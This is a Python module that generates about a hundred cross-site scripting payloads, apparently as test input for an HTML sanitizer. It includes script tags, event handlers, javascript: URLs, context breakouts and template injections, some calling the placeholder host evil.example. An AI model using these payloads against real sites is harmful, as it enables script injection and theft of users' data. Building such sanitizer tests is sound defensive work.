"""A hundred ways to smuggle a script into a page; each would open a dialog or ask another host."""

__all__ = ["PAYLOADS"]

_CALLS = ("alert({n})", "fetch('//evil.example/{n}')", "parent.alert({n})")
_FORMS = (
    "<script>{call}</script>",
    "<ScRiPt >{call}</sCrIpT>",
    "<img src=x onerror={call}>",
    "<img src=//evil.example/{n}.png>",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<math><mtext></mtext><mglyph><img src=x onerror={call}></mglyph></math>",
    "<body onload={call}>",
    "<iframe srcdoc='<script>{call}</script>'></iframe>",
    "<iframe src=javascript:{call}></iframe>",
    "<a href=javascript:{call}>x</a>",
    '"><script>{call}</script>',
    "'><script>{call}</script>",
    '" autofocus onfocus={call} x="',
    "' autofocus onfocus={call} x='",
    "</title><script>{call}</script>",
    "</textarea><script>{call}</script>",
    "</pre><script>{call}</script>",
    "--><script>{call}</script>",
    "]]><script>{call}</script>",
    "<details open ontoggle={call}>",
    "<video><source onerror={call}></video>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<style>@import '//evil.example/{n}.css';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<base href=//evil.example/{n}/>",
    "<form action=//evil.example/{n}><button autofocus>x</button></form>",
    "<div hx-get=//evil.example/{n} hx-trigger=load></div>",
    "<div hx-on::load={call}></div>",
    '<div data-fills=\'{{"address": "x"}}\'></div><img src=x onerror={call}>',
    "{{{{ {call} }}}}",
    "{{% raw %}}<script>{call}</script>",
    "${{{call}}}",
    "javascript:{call}//",
)

PAYLOADS = tuple(
    form.format(call=call.format(n=number), n=number)
    for number, (form, call) in enumerate(
        ((form, call) for call in _CALLS for form in _FORMS), start=1
    )
)
